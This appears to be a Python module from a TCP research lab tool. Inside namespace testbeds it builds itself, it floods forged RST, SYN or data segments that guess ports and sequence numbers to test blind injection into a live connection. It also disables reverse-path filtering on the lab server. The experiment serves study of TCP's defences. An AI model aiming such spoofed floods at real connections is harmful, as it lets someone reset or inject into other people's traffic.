"""Forged segments from an attacker who hears nothing, at a live connection."""

import time
from collections.abc import Sequence
from contextlib import closing

from tcplab.analysis.blind import COUNTERS, AckRule, BlindReport, BlindSettings
from tcplab.experiment.ack_rule import ack_rule
from tcplab.experiment.conversation import Conversation
from tcplab.kernel.counters import Counters, delta
from tcplab.scenario.attacks.attack import Weapon
from tcplab.scenario.host_settings import HostSettings, Sysctl
from tcplab.scenario.services import Services
from tcplab.tcp.flags import Flags
from tcplab.testbed.direct import DirectTestbed
from tcplab.testbed.plan import Family
from tcplab.wire.burst.flood import Flood
from tcplab.wire.burst.guessing import Guesses

_PORT = 80
_NS = 1_000_000_000
_LOT = 500
"""Frames between two exchanges of the connection's own ends."""
_WIDENING = 64
"""Exchanges that let a server with a large buffer open its window."""
_WIDENING_OCTETS = 65536
_PORT_RANGE = "/proc/sys/net/ipv4/ip_local_port_range"
_FLAGS = {Weapon.RST: Flags.RST, Weapon.SYN: Flags.SYN, Weapon.DATA: Flags.PSH | Flags.ACK}
_FORGED = b"The client never said this.\n"


def blind(settings: BlindSettings, *, rootless: bool | None = None) -> BlindReport:
    """Try it on a testbed made for it, while both ends keep talking.

    The attacker is spared one guess: it knows how wide the server's window is. Ctrl-C ends it: the
    report is of what was until then, and says that it is partial.

    Enters a user namespace if this process may not make network namespaces without (`rootless`
    None), which cannot be undone. Raises PrivilegeError or UnavailableError where this machine
    cannot do it.
    """
    testbed = DirectTestbed(
        family=Family(settings.version),
        services=Services(),
        rootless=rootless,
        others=("client", "attacker"),
        settings=(_server(settings),),
    )
    with closing(testbed):
        with testbed.inside("server"):
            counters = Counters()
        with closing(counters):
            # Nothing but data is believed for its ACK number.
            rule = ack_rule(testbed) if settings.weapon is Weapon.DATA else None
            with closing(Conversation(testbed, _PORT)) as conversation:
                return _attack(testbed, settings, conversation, counters, rule)


def _attack(
    testbed: DirectTestbed,
    settings: BlindSettings,
    conversation: Conversation,
    counters: Counters,
    rule: AckRule | None,
) -> BlindReport:
    conversation.exchange()
    if settings.receive_buffer is not None:
        for _ in range(_WIDENING):
            conversation.exchange(min(_WIDENING_OCTETS, settings.receive_buffer // 4))
    window, client_window = conversation.windows()
    ports = [conversation.client.port] if settings.port_known else _ports(testbed)
    path = testbed.path("attacker")
    guesses = Guesses(
        conversation.client.ip,
        path.destination,
        _PORT,
        ports=ports,
        step=window,
        flags=_FLAGS[settings.weapon],
        payload=_FORGED if settings.weapon is Weapon.DATA else b"",
    )
    before = counters.read()
    exchanges, took_ns, partial = conversation.exchanges, 0, False
    with closing(Flood(path, guesses.template, guesses.fields, frames=settings.frames)) as flood:
        end_ns = time.monotonic_ns() + round(settings.seconds * _NS)
        try:
            alive = True
            while alive and not flood.over and (began_ns := time.monotonic_ns()) < end_ns:
                flood.send(_LOT)
                took_ns += time.monotonic_ns() - began_ns
                alive = conversation.exchange()
        except KeyboardInterrupt:
            partial = True
        sent = flood.sent
    counted = delta(before, counters.read())
    client, server = conversation.states()
    facts = testbed.facts
    return BlindReport(
        settings=settings,
        kernel=facts.kernel,
        rootless=facts.rootless,
        window=window,
        client_window=client_window,
        acknowledged=conversation.acknowledged(),
        ack_rule=rule,
        ports=len(ports),
        sent=sent,
        seconds=took_ns / _NS,
        exchanges=conversation.exchanges - exchanges,
        client=client,
        server=server,
        counters={name: counted.get(name, 0) for name in COUNTERS},
        forged_octets=conversation.forged_octets,
        partial=partial,
    )


def _server(settings: BlindSettings) -> HostSettings:
    # The client's address comes in by the attacker's cable: some machines would drop that (strict
    # reverse path filtering, RFC 3704), and so answer another question than the one that is asked.
    sysctls = [
        Sysctl(name=f"net.ipv4.conf.{nic}.rp_filter", value="0") for nic in ("all", "w-attacker")
    ]
    if settings.receive_buffer is not None:
        buffer = settings.receive_buffer
        sysctls.append(Sysctl(name="net.ipv4.tcp_rmem", value=f"4096 {buffer} {buffer}"))
    return HostSettings(name="server", sysctls=tuple(sysctls))


def _ports(testbed: DirectTestbed) -> Sequence[int]:
    """Those from which the client's kernel takes one for a connection (RFC 6056)."""
    with testbed.inside("client"), open(_PORT_RANGE) as file:
        first, last = map(int, file.read().split())
    return range(first, last + 1)
